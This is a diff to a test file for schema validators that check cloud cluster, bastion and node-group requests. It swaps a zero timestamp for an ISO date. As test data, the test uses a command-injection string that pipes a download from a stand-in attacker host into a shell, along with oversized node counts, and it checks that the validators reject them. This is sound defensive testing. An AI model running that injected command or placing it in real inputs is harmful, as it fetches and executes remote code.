@@ -27,28 +27,26 @@ test('the name of a cluster runs nothing on the bastion', () => {
 
 test('functions take no names from a forged request but names, and no more nodes than config.yaml may ask for', () => {
   const tags = {};
+  const since = '2026-11-30T16:00:00Z';
   const evil = "lab'; curl evil.example/x | sh; '";
   const group = {
     ...{ cluster: 'lab', name: 'gcd-m6i-large', instanceType: 'm6i.large', spot: false, tags },
     ...{ amiType: 'AL2023_x86_64_STANDARD', maxNodes: 100, diskGiB: 30 },
   };
-  expect(nodegroupRequest.safeParse({ want: group, since: 0 }).error).toBeUndefined();
+  expect(nodegroupRequest.safeParse({ want: group, since }).error).toBeUndefined();
   for (const forged of [
     ...[{ cluster: evil }, { name: evil }, { instanceType: evil }],
     ...[{ maxNodes: 1_000_000 }, { diskGiB: 1_000_000 }, { maxNodes: 0.5 }],
   ])
-    expect([forged, nodegroupRequest.safeParse({ want: { ...group, ...forged }, since: 0 }).success]).toEqual(
-      [forged, false],
-    );
+    expect([forged, nodegroupRequest.safeParse({ want: { ...group, ...forged }, since }).success]).toEqual([
+      forged,
+      false,
+    ]);
   for (const want of [
     { name: evil, cluster: 'lab', tags },
     { name: 'lab-bastion', cluster: evil, tags },
   ])
-    expect(bastionRequest.safeParse({ want, since: 0 }).success).toBe(false);
-  expect(clusterRequest.safeParse({ want: { name: evil, version: null, tags }, since: 0 }).success).toBe(
-    false,
-  );
-  expect(clusterRequest.safeParse({ want: { name: 'lab', version: null, tags }, since: 0 }).success).toBe(
-    true,
-  );
+    expect(bastionRequest.safeParse({ want, since }).success).toBe(false);
+  expect(clusterRequest.safeParse({ want: { name: evil, version: null, tags }, since }).success).toBe(false);
+  expect(clusterRequest.safeParse({ want: { name: 'lab', version: null, tags }, since }).success).toBe(true);
 });
